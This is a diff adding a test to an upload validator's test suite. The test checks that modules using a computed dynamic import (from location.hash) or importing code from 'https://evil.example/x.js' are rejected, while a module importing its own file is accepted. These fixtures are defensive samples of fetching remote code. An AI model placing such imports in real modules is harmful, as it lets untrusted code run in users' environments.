@@ -191,6 +191,18 @@ describe('refused uploads, each with a reason', () => {
     }
   });
 
+  it('a computed import(someVar) or a literal import() from the network: 400; a literal import() of its own file is fine', async () => {
+    const computed = await upload(app, fresh({ manifest: asOther, files: { 'module.js': 'const someVar = location.hash.slice(1); export default () => import(someVar);' } }));
+    expect(computed.status).toBe(400);
+    expect(computed.body.error?.message).toMatch(/module\.js \(line 1\) has a dynamic import whose specifier is computed at run time: import\(someVar\)\. A piece may import only with literal specifiers/);
+    const evil = await upload(app, fresh({ manifest: asOther, files: { 'module.js': "export default () => import('https://evil.example/x.js');" } }));
+    expect(evil.status).toBe(400);
+    expect(evil.body.error?.message).toMatch(/module\.js imports 'https:\/\/evil\.example\/x\.js' with import\(\): a piece may import only/);
+    const own = fresh({ manifest: (m) => ({ ...m, id: 'fixture-own-import' }), files: { 'module.js': "export default () => import('./chunks/late.js');", 'chunks/late.js': 'export default 1;' } });
+    const fine = await upload(app, { ...own, id: 'fixture-own-import' });
+    expect(fine.status, JSON.stringify(fine.body)).toBe(201);
+  });
+
   it('a module without a default export: 400', async () => {
     const res = await upload(app, fresh({ manifest: asOther, files: { 'module.js': 'export const x = 1;' } }));
     expect(res.status).toBe(400);
